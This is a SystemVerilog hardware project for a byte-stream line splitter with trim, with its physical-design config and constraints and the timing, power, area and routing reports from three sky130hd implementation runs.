### src/hdl/lst_pkg.sv
// Shared package for the line splitter with trim.
// Holds widths, character codes, the emitter state type and the fill-to-emit struct.
// No dependencies.
`timescale 1ns / 1ps

package lst_pkg;

   localparam int MAX_LINE_DEF = 64;
   localparam int LIMIT_W      = 7;
   localparam int BYTE_W       = 8;

   localparam logic [LIMIT_W-1:0] LIMIT_RESET = 7'd64;

   localparam logic [BYTE_W-1:0] CH_NUL = 8'h00;
   localparam logic [BYTE_W-1:0] CH_LF  = 8'h0A;
   localparam logic [BYTE_W-1:0] CH_CR  = 8'h0D;
   localparam logic [BYTE_W-1:0] CH_PCT = 8'h25;

   typedef enum logic [1:0] {
      EMIT_IDLE,
      EMIT_FETCH,
      EMIT_SEND
   } emit_state_type;

   // line end notice from the fill side to the emitter
   typedef struct packed {
      logic done;
      logic empty;
   } line_end_type;

endpackage

### src/hdl/lst_ram.sv
// Generic simple dual-port RAM: one write port, one read port, registered read.
// Depends on nothing.
`timescale 1ns / 1ps

module lst_ram #(
   parameter int WIDTH = 8,
   parameter int DEPTH = 64
) (
   input  logic                                   clock,
   input  logic                                   wr_en,
   input  logic [(DEPTH > 1 ? $clog2(DEPTH) : 1)-1:0] wr_addr,
   input  logic [WIDTH-1:0]                       wr_data,
   input  logic                                   rd_en,
   input  logic [(DEPTH > 1 ? $clog2(DEPTH) : 1)-1:0] rd_addr,
   output logic [WIDTH-1:0]                       rd_data
);

   logic [WIDTH-1:0] mem [DEPTH];
   logic [WIDTH-1:0] rd_data_ff;

   always_ff @(posedge clock) begin
      if (wr_en) begin
         mem[wr_addr] <= wr_data;
      end
      if (rd_en) begin
         rd_data_ff <= mem[rd_addr];
      end
   end

   assign rd_data = rd_data_ff;

endmodule

### src/hdl/lst_fill.sv
// Fill side: writes incoming request bytes into the line store and tracks the
// kept and trimmed lengths of the current line. Uses lst_pkg.
`timescale 1ns / 1ps

module lst_fill #(
   parameter int MAX_LINE = lst_pkg::MAX_LINE_DEF
) (
   input  logic                                          clock,
   input  logic                                          reset,
   input  logic                                          accept,
   input  logic [lst_pkg::BYTE_W-1:0]                    in_byte,
   input  logic [lst_pkg::LIMIT_W-1:0]                   line_limit,
   output logic                                          wr_en,
   output logic [(MAX_LINE > 1 ? $clog2(MAX_LINE) : 1)-1:0] wr_addr,
   output logic [lst_pkg::BYTE_W-1:0]                    wr_data,
   output lst_pkg::line_end_type                         line_end,
   output logic [$clog2(MAX_LINE + 1)-1:0]               line_len
);

   localparam int CNT_W = $clog2(MAX_LINE + 1);
   localparam int AW    = (MAX_LINE > 1) ? $clog2(MAX_LINE) : 1;

   logic [CNT_W-1:0] wcount_ff, wcount_in;
   logic [CNT_W-1:0] keep_ff, keep_in;
   logic [CNT_W-1:0] trim_ff, trim_in;
   logic             zero_ff, zero_in;
   logic [CNT_W-1:0] eff_limit;
   logic             room;

   assign eff_limit = (line_limit > lst_pkg::LIMIT_W'(MAX_LINE)) ? CNT_W'(MAX_LINE)
                                                                 : line_limit[CNT_W-1:0];
   assign room    = (wcount_ff < eff_limit);
   assign wr_addr = wcount_ff[AW-1:0];
   assign wr_data = in_byte;

   always_comb begin
      wcount_in = wcount_ff;
      keep_in   = keep_ff;
      trim_in   = trim_ff;
      zero_in   = zero_ff;
      wr_en     = 1'b0;
      line_end  = '0;
      line_len  = trim_ff;
      if (accept) begin
         if (room) begin
            wr_en     = 1'b1;
            wcount_in = wcount_ff + CNT_W'(1);
            if (!zero_ff) begin
               if (in_byte == lst_pkg::CH_NUL) begin
                  zero_in = 1'b1;
               end else begin
                  keep_in = keep_ff + CNT_W'(1);
                  // trimmed length ends at the last kept byte that is not CR or LF
                  if (in_byte != lst_pkg::CH_CR && in_byte != lst_pkg::CH_LF) begin
                     trim_in = keep_in;
                  end
               end
            end
         end
         if (in_byte == lst_pkg::CH_LF) begin
            line_end.done  = 1'b1;
            line_end.empty = (trim_in == '0);
            line_len       = trim_in;
            // start a fresh line
            wcount_in = '0;
            keep_in   = '0;
            trim_in   = '0;
            zero_in   = 1'b0;
         end
      end
   end

   always_ff @(posedge clock) begin
      if (reset) begin
         wcount_ff <= '0;
         keep_ff   <= '0;
         trim_ff   <= '0;
         zero_ff   <= 1'b0;
      end else begin
         wcount_ff <= wcount_in;
         keep_ff   <= keep_in;
         trim_ff   <= trim_in;
         zero_ff   <= zero_in;
      end
   end

   a_len_order: assert property (@(posedge clock) disable iff (reset)
      trim_ff <= keep_ff && keep_ff <= wcount_ff)
      else $error("fill: length order broken");

endmodule

### src/hdl/lst_emit.sv
// Emit side: reads a finished line out of the line store one byte at a time
// and presents it on the response channel. Uses lst_pkg.
`timescale 1ns / 1ps

module lst_emit #(
   parameter int MAX_LINE = lst_pkg::MAX_LINE_DEF
) (
   input  logic                                          clock,
   input  logic                                          reset,
   input  lst_pkg::line_end_type                         line_end,
   input  logic [$clog2(MAX_LINE + 1)-1:0]               line_len,
   input  logic [lst_pkg::BYTE_W-1:0]                    rd_data,
   output logic                                          rd_en,
   output logic [(MAX_LINE > 1 ? $clog2(MAX_LINE) : 1)-1:0] rd_addr,
   output logic                                          idle,
   output logic                                          rsp_valid,
   input  logic                                          rsp_ready,
   output logic [lst_pkg::BYTE_W-1:0]                    rsp_out_byte,
   output logic                                          rsp_byte_valid,
   output logic                                          rsp_line_last
);

   localparam int CNT_W = $clog2(MAX_LINE + 1);
   localparam int AW    = (MAX_LINE > 1) ? $clog2(MAX_LINE) : 1;

   lst_pkg::emit_state_type state_ff, state_in;

   logic [CNT_W-1:0]          idx_ff, idx_in;
   logic [CNT_W-1:0]          len_ff, len_in;
   logic [lst_pkg::BYTE_W-1:0] byte_ff, byte_in;
   logic                      bval_ff, bval_in;
   logic                      last_ff, last_in;
   logic [CNT_W-1:0]          idx_next;

   assign idx_next = idx_ff + CNT_W'(1);

   always_ff @(posedge clock) begin
      if (reset) begin
         state_ff <= lst_pkg::EMIT_IDLE;
      end else begin
         state_ff <= state_in;
      end
   end

   always_ff @(posedge clock) begin
      idx_ff  <= idx_in;
      len_ff  <= len_in;
      byte_ff <= byte_in;
      bval_ff <= bval_in;
      last_ff <= last_in;
   end

   always_comb begin
      state_in = state_ff;
      idx_in   = idx_ff;
      len_in   = len_ff;
      byte_in  = byte_ff;
      bval_in  = bval_ff;
      last_in  = last_ff;
      rd_en    = 1'b0;
      rd_addr  = idx_ff[AW-1:0];
      unique case (state_ff)
         lst_pkg::EMIT_IDLE: begin
            if (line_end.done) begin
               if (line_end.empty) begin
                  byte_in  = '0;
                  bval_in  = 1'b0;
                  last_in  = 1'b1;
                  state_in = lst_pkg::EMIT_SEND;
               end else begin
                  len_in   = line_len;
                  idx_in   = '0;
                  rd_en    = 1'b1;
                  rd_addr  = '0;
                  state_in = lst_pkg::EMIT_FETCH;
               end
            end
         end
         lst_pkg::EMIT_FETCH: begin
            // read data is back: load the response register
            byte_in  = (rd_data == lst_pkg::CH_CR) ? lst_pkg::CH_PCT : rd_data;
            bval_in  = 1'b1;
            last_in  = (idx_next == len_ff);
            state_in = lst_pkg::EMIT_SEND;
         end
         lst_pkg::EMIT_SEND: begin
            if (rsp_ready) begin
               if (last_ff) begin
                  state_in = lst_pkg::EMIT_IDLE;
               end else begin
                  idx_in   = idx_next;
                  rd_en    = 1'b1;
                  rd_addr  = idx_next[AW-1:0];
                  state_in = lst_pkg::EMIT_FETCH;
               end
            end
         end
         default: begin
            state_in = lst_pkg::EMIT_IDLE;
         end
      endcase
   end

   assign idle           = (state_ff == lst_pkg::EMIT_IDLE);
   assign rsp_valid      = (state_ff == lst_pkg::EMIT_SEND);
   assign rsp_out_byte   = byte_ff;
   assign rsp_byte_valid = bval_ff;
   assign rsp_line_last  = last_ff;

   a_done_when_idle: assert property (@(posedge clock) disable iff (reset)
      line_end.done |-> state_ff == lst_pkg::EMIT_IDLE)
      else $error("emit: line end while busy");

   a_empty_is_last: assert property (@(posedge clock) disable iff (reset)
      rsp_valid && !rsp_byte_valid |-> rsp_line_last)
      else $error("emit: empty result not marked last");

   a_no_raw_cr: assert property (@(posedge clock) disable iff (reset)
      rsp_valid && rsp_byte_valid |-> rsp_out_byte != lst_pkg::CH_CR)
      else $error("emit: CR not replaced");

   a_idx_in_range: assert property (@(posedge clock) disable iff (reset)
      state_ff == lst_pkg::EMIT_FETCH |-> idx_ff < len_ff)
      else $error("emit: read past line end");

   a_last_to_idle: assert property (@(posedge clock) disable iff (reset)
      rsp_valid && rsp_ready && rsp_line_last |=> state_ff == lst_pkg::EMIT_IDLE)
      else $error("emit: did not return to idle after last result");

endmodule

### src/hdl/line_splitter_with_trim_top.sv
// Line splitter with trim: byte stream in, cleaned line bytes out.
// Requests are held off while a line is emitted. After a newline request the emitter
// reads the first byte (FETCH), then presents it (SEND); an empty line goes straight
// to SEND. Each further byte is read once the previous one is taken. Requests are
// taken again the cycle after the last response of a line is taken. Synchronous
// reset clears the counts and sets line_limit to 64; store contents stay.
`timescale 1ns / 1ps

module line_splitter_with_trim_top #(
   parameter int MAX_LINE = lst_pkg::MAX_LINE_DEF
) (
   input  logic                          clock,
   input  logic                          reset,
   input  logic                          req_valid,
   output logic                          req_ready,
   input  logic [lst_pkg::BYTE_W-1:0]    req_in_byte,
   output logic                          rsp_valid,
   input  logic                          rsp_ready,
   output logic [lst_pkg::BYTE_W-1:0]    rsp_out_byte,
   output logic                          rsp_byte_valid,
   output logic                          rsp_line_last,
   input  logic                          csr_wr_en,
   input  logic [lst_pkg::LIMIT_W-1:0]   csr_wr_data
);

   localparam int CNT_W = $clog2(MAX_LINE + 1);
   localparam int AW    = (MAX_LINE > 1) ? $clog2(MAX_LINE) : 1;

   logic [lst_pkg::LIMIT_W-1:0] limit_ff, limit_in;
   logic                        accept;
   logic                        emit_idle;
   logic                        wr_en;
   logic [AW-1:0]               wr_addr;
   logic [lst_pkg::BYTE_W-1:0]  wr_data;
   logic                        rd_en;
   logic [AW-1:0]               rd_addr;
   logic [lst_pkg::BYTE_W-1:0]  rd_data;
   lst_pkg::line_end_type       line_end;
   logic [CNT_W-1:0]            line_len;

   assign limit_in = csr_wr_en ? csr_wr_data : limit_ff;

   always_ff @(posedge clock) begin
      if (reset) begin
         limit_ff <= lst_pkg::LIMIT_RESET;
      end else begin
         limit_ff <= limit_in;
      end
   end

   assign req_ready = emit_idle;
   assign accept    = req_valid && req_ready;

   lst_fill #(.MAX_LINE(MAX_LINE)) u_fill (
      .clock      (clock),
      .reset      (reset),
      .accept     (accept),
      .in_byte    (req_in_byte),
      .line_limit (limit_ff),
      .wr_en      (wr_en),
      .wr_addr    (wr_addr),
      .wr_data    (wr_data),
      .line_end   (line_end),
      .line_len   (line_len)
   );

   lst_ram #(.WIDTH(lst_pkg::BYTE_W), .DEPTH(MAX_LINE)) u_store (
      .clock   (clock),
      .wr_en   (wr_en),
      .wr_addr (wr_addr),
      .wr_data (wr_data),
      .rd_en   (rd_en),
      .rd_addr (rd_addr),
      .rd_data (rd_data)
   );

   lst_emit #(.MAX_LINE(MAX_LINE)) u_emit (
      .clock          (clock),
      .reset          (reset),
      .line_end       (line_end),
      .line_len       (line_len),
      .rd_data        (rd_data),
      .rd_en          (rd_en),
      .rd_addr        (rd_addr),
      .idle           (emit_idle),
      .rsp_valid      (rsp_valid),
      .rsp_ready      (rsp_ready),
      .rsp_out_byte   (rsp_out_byte),
      .rsp_byte_valid (rsp_byte_valid),
      .rsp_line_last  (rsp_line_last)
   );

endmodule
### config.mk
export PLATFORM = sky130hd
export DESIGN_NAME = line_splitter_with_trim_top
export DESIGN_NICKNAME = d
export VERILOG_FILES = /design/src/hdl/lst_pkg.sv /design/src/hdl/lst_ram.sv /design/src/hdl/lst_fill.sv /design/src/hdl/lst_emit.sv /design/src/hdl/line_splitter_with_trim_top.sv
export SDC_FILE = /design/constraint.sdc
export NUM_CORES = 1
export LEC_CHECK = 0
export BUFFER_PORTS_ARGS = -buffer_cell sky130_fd_sc_hd__buf_4
export CORE_MARGIN = 2
export CORE_UTILIZATION = 55
export DETAILED_ROUTE_END_ITERATION = 10
export PLACE_DENSITY = 0.71
export SYNTH_ARGS = -nofsm -noshare
export SYNTH_HDL_FRONTEND = slang
export SYNTH_SLANG_ARGS = --single-unit
### constraint.sdc
create_clock -name clock -period 7.1 [get_ports clock]
set_clock_uncertainty 0.15 [all_clocks]
set_input_delay 0.71 -clock clock [delete_from_list [all_inputs] [get_ports clock]]
set_output_delay 0.71 -clock clock [all_outputs]
set_load 0.01 [all_outputs]
==> results of run 1 <==
[worst max-delay path, stage by stage (launching register included)]
cell and delay (ns):
dfxtp_1 0.98, ha_1 0.36, and4_1 0.20, a211oi_1 0.46
nand2_1 0.22, nor2_1 0.30, nand3_1 0.69, nor2_1 1.03
[power groups by stage]
| stage | combinational, mW | clock (mW) | sequential [mW] |
|---|---|---|---|
| floorplan | 0.0867 | 0 | 3.80 |
| global placement | 0.177 | 0 | 3.80 |
| detailed placement | 0.180 | 0 | 3.80 |
| CTS | 0.181 | 3.03 | 3.73 |
| global route | 0.198 | 3.15 | 3.73 |
| finish | 0.183 | 3.00 | 3.73 |
[per-layer routing]
layer | track usage | share of wire | vias up | wire [microns]
li1 | - | - | 6592 | -
met3 | 0.0531 | 0.10 | 170 | 6320
met4 | 0.126 | 0.046 | 0 | 2790
met5 | 0 | 0 | - | 0
met2 | 0.426 | 0.46 | 890 | 27800
met1 | 0.386 | 0.39 | 7410 | 23600
[final cells by class]
cell class	instances	area [sq um]	share of cell area
Tap cell	539	674	0.0260
Sequential cell	575	17000	0.653
Clock buffer	66	1480	0.0570
Multi-Input combinational cell	981	6030	0.232
Clock inverter	39	380	0.0146
Inverter	10	37.5	0.00145
Timing Repair Buffer	53	410	0.0158
[worst paths after layout]
| path | startpoint | endpoint | slack, ns | cells after the start |
|---|---|---|---|---|
| setup / recovery | u_fill.wcount_ff[3] | u_store.mem[31][0] | 2.30 | 7 |
| hold / removal | csr_wr_data[6] | limit_ff[6] | 0.18 | 3 |
| setup reg to reg | u_fill.wcount_ff[3] | u_store.mem[31][0] | 2.30 | 7 |
| hold reg to reg | u_fill.trim_ff[0] | u_emit.len_ff[0] | 0.32 | 0 |
[state kept, by name, summed over array words and instances, names as in the netlist, 7 cells and up]
signal and flops:
limit_ff 7, u_emit.idx_ff 7, u_emit.len_ff 7, u_emit.rsp_out_byte 8
u_fill.keep_ff 7, u_fill.trim_ff 7, u_fill.wcount_ff 7, u_store.mem 512
u_store.rd_data 8
[cell usage after synthesis (all sizes together), types with 8 or more instances]
library cell  number
edfxtp           544
nand2            177
nor2             132
o22ai             95
buf               68
nand3             60
o21ai             55
a21oi             52
clkbuf            46
a211oi            42
dfxtp             31
a211o             30
a31oi             25
mux2i             24
and3              17
nor3              17
a22oi             16
xor2              16
o221ai            15
a21o              14
o2111ai           14
or3               13
o211ai            11
and2              10
nor4              10
xnor2             10
and4               9
ha                 9
inv                9
o22a               9
o41ai              8
[metrics by stage]
| stage | hold slack (ns) | total power [mW] |
|---|---|---|
| after floorplan | 0.302 | 3.88 |
| final | 0.179 | 6.91 |
| after global routing | 0.200 | 7.07 |
| after global placement | 0.304 | 3.98 |
| after detailed placement | 0.302 | 3.98 |
| after CTS | 0.154 | 6.94 |
[cell families after synthesis]
group                    after synthesis  synth area share
AND/OR/NAND/NOR                      481            0.0960
AO/OA/AOI/OAI                        439             0.133
multiplexers                          26            0.0111
adder cells (fa/ha/maj)                9           0.00478
buffers and inverters                124            0.0259
flip-flops                           575             0.719
XOR/XNOR                              26           0.00966
==> impl_metrics.ini, run 1 <==
[outcome]
status = complete, no violations

[synth]
yosys.area.top_type = edfxtp_1
synth-seq-cells = 575
yosysWarnings = 0
netlist.area_leader.share = 0.693
synth.avg_cell_area_sq_um = 14.0
ys_seq_area_frac = 0.719
syn_area_sq_um = 23600
yosysUniqueCellTypes = 76
synth-main-ff-cell = edfxtp_1
async_flop_share = 0
syn_nets = 1709
ys_top_cells_by_area = edfxtp_1 69%, nand2_1 2.8%, dfxtp_1 2.6%
syn_inst = 1680
synth_edf_count = 544

[cells_and_area]
postLayoutCoreUtil = 0.616
nets = 1706
drive_gt1_frac = 0.102
num_antenna_cells = 0
layout_commonest_cell = edfxtp_1
layout_common_cells = 544 x edfxtp_1, 175 x nand2_1, 132 x nor2_1, 93 x o22ai_1, 60 x nand3_1
syn_to_final_growth_pct = 10.2
final_cell_area_sq_um = 26000
fillers = 3072
fin_cells = 2263

[power_and_ir_drop]
seqPwrFrac = 0.540
p_leak_nw = 8.33
powerDensity_nw_per_um2 = 266
ir_drop_v = 0.000226
share_comb_of_total_power = 0.026
p_clk_frac = 0.434
p_int_mw = 5.51
p_sw_frac = 0.203
power_switching_mw = 1.40

[timing]
setup_viol = 0
fmax_mhz = 208
fin_crit_ns = 4.80
fin_tns_setup_ns = 0
hold_violations = 0
max-slew-margin-rel = 0.168
fin_ws_ns = 2.30
slew_violations = 0
rsz0062_at_grt = no
min_period_over_period = 0.676
worst_slew_pin_slew_ns = 1.25

[floorplan]
dieArea_sq_um = 44500
core_sq_um = 42100
ios = 32
initial_utilization = 0.559
die_w_microns = 211
rows = 75
die_h_microns = 211

[clock_tree]
cts_resized = 0
cts_made_buffers = 56
h-tree-depth = 2
clk_pin_slew_ns = 0.06
cts_hold_buf = 0
cts_buffer_depth = 3
cts_root_buf = clkbuf_16
insertion_delay_ns = 0.63
cts.sinks = 575
cts_setup_buffers = 0
tritoncts = done

[placed_design]
dpl_cell_area_sq_um = 24100
io_buffer_count = 31
placedCellCount = 2158
dp_hpwl_mm = 37.3
gp_congestion = 0.875
place_ws_ns = 2.12

[critical_path]
critPathKind = flip-flop to flip-flop
end_kind = flip-flop
cp-start-kind = flip-flop
worst-endpoint-required_ns = 7.17
cp_max_fo = 12
cp.arrival_ns = 4.88

[job]
max_cap_violations = 0

[global_route]
antenna_found_initial = 0
grt_use_total = 0.277
grt_overflow_total = 0
grt_max_degree = 192
grt_pass1_vias = 14700
grt_pass1_wl_mm = 90.8

[drt]
wire_per_inst_microns = 26.7
firstDrtPassIters = 7
vias_per_cell = 6.66
vias = 15100
drt_iter0_drc = 2058
antenna_left = 0
drc = 0
wl_mm = 60.5

[min_path]
hold_class = input port to flip-flop
No activity file was read; power rests on OpenSTA's default activity.
==> inputs of run 2 (changes only) <==
Settings changed: PLACE_DENSITY 0.71 to 0.74.
Clock period 7.1 ns to 4.4 ns, I/O delays scaled along.
==> run 2 against run 1 <==
  * Sequential cell count did not move
  * Routed wire length is 3.0% higher
  * Cell count grew 2.0%
  * Combinational power is 78% higher
  * Non-clock buffer count increased by 42
  * Sequential power grew 61%
  * Sequential share of layout area is 1.4 points lower
  * Total power grew 66%
  * Register-to-register slack lost 1.8 ns
  * Hold slack worse by 0.17 ns
  * Setup slack got worse by 1.8 ns
  * Critical endpoint is now u_store.mem[39][5]
  * Die area unchanged
==> impl_metrics.ini, run 2 (synthesis gave the netlist of run 1 again) <==
[critical_path]
crit_family = simple AND/OR/NAND/NOR gates
r2r-end = u_store.mem[39][5]
r2r_slack_ns = 0.54
crit_buf_inv = 1
cp_max_fo = 8
cp.arrival_ns = 3.95
cp-start-kind = flip-flop
end_kind = flip-flop
critPathKind = flip-flop to flip-flop
r2r_cells = 10
worst-endpoint-required_ns = 4.49
r2r-start = limit_ff[6]
crit_chain = inv_1, nand2_1, ha_1, a21oi_1, a21boi_0, a211oi_1, nand2_1, nor2_1, nand3_1, nor2_1
max_stage_delay_ns = 0.78
crit_path_top_delay_cell = nor2_1

[cells_and_area]
drive_gt1_frac = 0.120
layout_commonest_cell = edfxtp_1
fillers = 2991
largest_reg_flops = 512
regMostFlops = u_store.mem
multi_input_area_sq_um = 6030
layout_common_cells = 544 x edfxtp_1, 175 x nand2_1, 132 x nor2_1, 93 x o22ai_1, 79 x buf_4
ff_latch_area_sq_um = 17000
syn_to_final_growth_pct = 12.6
nets = 1750
fin_cells = 2309

[power_and_ir_drop]
share_comb_of_total_power = 0.028
powerDensity_nw_per_um2 = 433
p_int_mw = 9.15
p_sw_frac = 0.204
power_switching_mw = 2.35
ir_drop_v = 0.000388
seqPwrFrac = 0.524
p_clk_frac = 0.448
p_leak_nw = 8.61

[floorplan]
rows = 75
die_w_microns = 211
dieArea_sq_um = 44500
core_sq_um = 42100
ios = 32
initial_utilization = 0.559
die_h_microns = 211

[drt]
vias_per_cell = 6.64
drc = 0
drt_iter0_drc = 2494
wire_per_inst_microns = 27.0
vias = 15300
wl_mm = 62.4
firstDrtPassIters = 7
antenna_left = 0

[placed_design]
dp_hpwl_mm = 39.5
io_buffer_count = 31
gp_congestion = 0.867
placedCellCount = 2192

[timing]
setup_viol = 0
holdWs_ns = 0.0115
max-slew-margin-rel = 0.371
rsz0062_at_grt = no
hold_violations = 0
min_period_over_period = 0.876
fmax_mhz = 259
fin_tns_setup_ns = 0
slew_violations = 0
worst_slew_pin_slew_ns = 0.943
fin_crit_ns = 3.86

[clock_tree]
cts_made_buffers = 58
insertion_delay_ns = 0.61
cts_root_buf = clkbuf_16
cts_resized = 0
tritoncts = done
cts_buffer_depth = 3
clk_pin_slew_ns = 0.06
cts.sinks = 575
h-tree-depth = 2

[global_route]
antenna_found_initial = 0
grt_use_met2 = 0.436
grt_pass1_vias = 14700
grt_max_degree = 102
grt_pass1_wl_mm = 92.5
grt_use_met3 = 0.0575
busiest_layer = met2
grtUsageMet1 = 0.400
grt_overflow_total = 0
grt_use_total = 0.282

[min_path]
worstHoldEndpoint = u_store.mem[56][7]
worstHoldPathCells = 1
hold_class = input port to flip-flop
min-delay-start = req_in_byte[7]

[outcome]
status = complete, no violations

[job]
max_cap_violations = 0
run 2: changes by cell type in the layout (fill, tap and decap cells not counted), moves of 3 or more:
cell / delta
buf_4: +27
clkinv_4: +3
clkinv_1: -6
clkinv_2: -7
dlygate4sd3_1: +8
buf_12: +7
clkbuf_1: +5
clkinvlp_4: +3
bufinv_16: +3
run 2: power groups by stage:
stage	sequential, mW	clock [mW]	combinational (mW)
6_report	6.02	5.15	0.326
5_1_grt	6.02	5.37	0.351
4_1_cts	6.02	5.17	0.323
3_5_place_dp	6.13	0	0.317
3_3_place_gp	6.13	0	0.310
2_1_floorplan	6.13	0	0.140
run 2: cell type report:
cell class,count,share of cell area
multi-input combinational,981,0.227
timing repair buffer,95,0.0314
inverter,10,0.00141
clock buffer,72,0.0575
sequential,575,0.639
tap,539,0.0254
antenna,1,0.0000943
clock inverter,36,0.0181
run 2: worst reg2reg max path, stage by stage, from the launching register on:
cell and delay [ns]:
dfxtp_1 0.31, inv_1 0.16, nand2_1 0.09, ha_1 0.32, a21oi_1 0.14, a21boi_0 0.11, a211oi_1 0.39, nand2_1 0.23
nor2_1 0.27, nand3_1 0.54, nor2_1 0.78
run 2: metrics by stage:
| step | setup slack (ns) | utilization | cell area, sq um | total power [mW] |
|---|---|---|---|---|
| after floorplan | 1.50 | - | 23600 | 6.27 |
| after detailed placement | 0.429 | 0.580 | 24400 | 6.45 |
| after global placement | 0.397 | 0.580 | 24400 | 6.44 |
| after CTS | 0.598 | 0.630 | 26500 | 11.5 |
| final | 0.545 | 0.630 | 26500 | 11.5 |
| after global routing | 0.294 | 0.630 | 26500 | 11.7 |
run 2: routing by layer:
| metal | vias up | wire [microns] |
|---|---|---|
| met5 | - | 0 |
| met4 | 0 | 2310 |
| met3 | 139 | 7190 |
| met2 | 1021 | 28500 |
| met1 | 7492 | 24300 |
| li1 | 6684 | - |
run 2: worst max path at each step:
| stage | start | endpoint | slack (ns) | cells past startpoint |
|---|---|---|---|---|
| 6_report | limit_ff[6] | u_store.mem[39][5] | 0.54 | 10 |
| 5_1_grt | limit_ff[6] | u_store.mem[14][5] | 0.29 | 10 |
| 2_1_floorplan | u_emit.idx_ff[0] | u_store.rd_data[0] | 1.50 | 10 |
| 4_1_cts | limit_ff[6] | u_store.mem[14][5] | 0.60 | 10 |
| 3_3_place_gp | req_in_byte[7] | u_store.rd_data[2] | 0.40 | 12 |
| 3_5_place_dp | req_in_byte[7] | u_store.rd_data[2] | 0.43 | 12 |
run 2: timing repair:
| action | 4_1_cts | 5_1_grt |
|---|---|---|
| endpoints found under the hold margin | 7 | 0 |
| hold buffers | 8 | 0 |
| buffers inserted | 0 | 0 |
| setup endpoints to repair | 0 | 0 |
==> inputs of run 3 (changes only) <==
Settings changed: CORE_UTILIZATION 55 to 30, CTS_CLUSTER_SIZE set to 12, PLACE_DENSITY 0.74 to unset.
==> run 3 against run 2 <==
  * Register-to-register slack worse by 0.40 ns
  * Critical endpoint is now u_store.mem[54][4]
  * Core utilization fell by 28 points
  * Total power fell by 5.7%
  * Critical path type unchanged
  * Sequential cell count unchanged
  * Die area is 82% higher
  * Largest cell class unchanged
  * Hold slack better by 0.027 ns
  * Via count up 1.3%
==> impl_metrics.ini, run 3 (synthesis gave the netlist of run 1 again) <==
[timing]
worst_slew_pin_slew_ns = 1.23
setup_viol = 0
max-slew-margin-rel = 0.182
min_period_over_period = 0.966
slew_violations = 0
holdWs_ns = 0.0386
fin_crit_ns = 4.25
fmax_mhz = 235
rsz0062_at_grt = yes
fin_ws_ns = 0.148
hold_violations = 0
fin_tns_setup_ns = 0

[clock_tree]
cts_buffer_depth = 3
insertion_delay_ns = 0.63
cts.sinks = 575
cts_root_buf = clkbuf_16
h-tree-depth = 2
tritoncts = done
cts_made_buffers = 58
clk_pin_slew_ns = 0.06

[min_path]
worstHoldEndpoint = limit_ff[5]
min-delay-start = csr_wr_en
worstHoldPathCells = 3
hold_class = input port to flip-flop

[cells_and_area]
layout_common_cells = 544 x edfxtp_1, 175 x nand2_1, 130 x nor2_1, 115 x buf_4, 93 x o22ai_1
nets = 1794
largest_reg_flops = 512
regMostFlops = u_store.mem
fillers = 7520
layout_commonest_cell = edfxtp_1
syn_to_final_growth_pct = 15.2
drive_gt1_frac = 0.127
fin_cells = 2844

[critical_path]
r2r_cells = 7
r2r_slack_ns = 0.15
r2r-start = u_fill.wcount_ff[3]
cp-start-kind = flip-flop
cp.arrival_ns = 4.35
end_kind = flip-flop
critPathKind = flip-flop to flip-flop
worst-endpoint-required_ns = 4.50
r2r-end = u_store.mem[54][4]
cp_max_fo = 12

[floorplan]
dieArea_sq_um = 80800
ios = 32
die_w_microns = 284
initial_utilization = 0.304
rows = 102
core_sq_um = 77600
die_h_microns = 284

[global_route]
grt_max_degree = 81
grt_pass1_vias = 15100
grt_overflow_total = 0
grt_pass1_wl_mm = 104
antenna_found_initial = 1
grt_use_total = 0.170

[power_and_ir_drop]
ir_drop_v = 0.000260
p_total_mw = 10.8
powerDensity_nw_per_um2 = 399
p_leak_nw = 8.68

[drt]
wl_mm = 70.3
vias_per_cell = 5.46
antenna_left = 0
firstDrtPassIters = 6
drc = 0
wire_per_inst_microns = 24.7
vias = 15500
drt_iter0_drc = 2159

[placed_design]
dp_hpwl_mm = 46.6
io_buffer_count = 31
place_ws_ns = 0.0472
placedCellCount = 2725
gp_congestion = 0.956

[outcome]
status = complete, no violations

[job]
max_cap_violations = 0
## run 3: changes by cell type in the layout (fill, tap and decap cells not counted), sizes merged, moves of 5 or more
cell	previous run	this run
bufinv	10	0
dlygate4sd3	8	20
clkbuf	72	77
buf	87	119
clkinvlp	7	0
## run 3: critical path, stage by stage, from the launching register on
cell	delay, ns
dfxtp_1	0.66
ha_1	0.32
and4_1	0.20
a211oi_1	0.46
nand2_1	0.21
nor2_1	0.33
nand3_1	0.68
nor2_1	0.86
## run 3: final cells by class
cell class | instances | area [sq um] | share of cell area
inverter | 10 | 37.5 | 0.00138
timing repair buffer | 139 | 1140 | 0.0421
multi-input combinational | 981 | 6050 | 0.223
antenna | 1 | 2.50 | 0.0000922
sequential | 575 | 17000 | 0.625
clock inverter | 21 | 111 | 0.00410
tap | 1040 | 1300 | 0.0479
clock buffer | 77 | 1540 | 0.0569
## run 3: timing repair
item                                   in CTS  in global routing
endpoints found under the hold margin      16                  0
setup buffers                               0                  0
setup endpoints to repair                   0                 50
gates resized for setup                     0                  3
hold buffers                               20                  0
## run 3: report_power, final
group,internal (mW),switching (mW)
Combinational,0.0973,0.252
Clock,2.44,2.03
Sequential,6.00,0.0160
## run 3: through the flow
step,util,area [sq um]
global placement,0.326,25300
global route,0.350,27100
finish,0.350,27100
floorplan,-,23600
CTS,0.350,27100
detailed placement,0.326,25300
## run 3: how the worst max path moves through the flow
stage	endpoint	cells after the start	startpoint
after global placement	u_store.rd_data[1]	11	req_in_byte[0]
after detailed placement	u_store.rd_data[3]	11	req_in_byte[0]
final	u_store.mem[54][4]	7	u_fill.wcount_ff[3]
after floorplan	u_store.rd_data[0]	10	u_emit.idx_ff[0]
after CTS	u_store.rd_data[6]	12	req_in_byte[2]
after global routing	u_store.mem[54][4]	7	u_fill.wcount_ff[3]
## run 3: routing by layer
metal  vias to the layer above  global-route usage  part of all wire
li1                       6756                   -                 -
met1                      7812               0.236              0.42
met2                       848               0.264              0.45
met3                       123              0.0384             0.095
met4                         0              0.0562             0.034
met5                         -                   0                 0
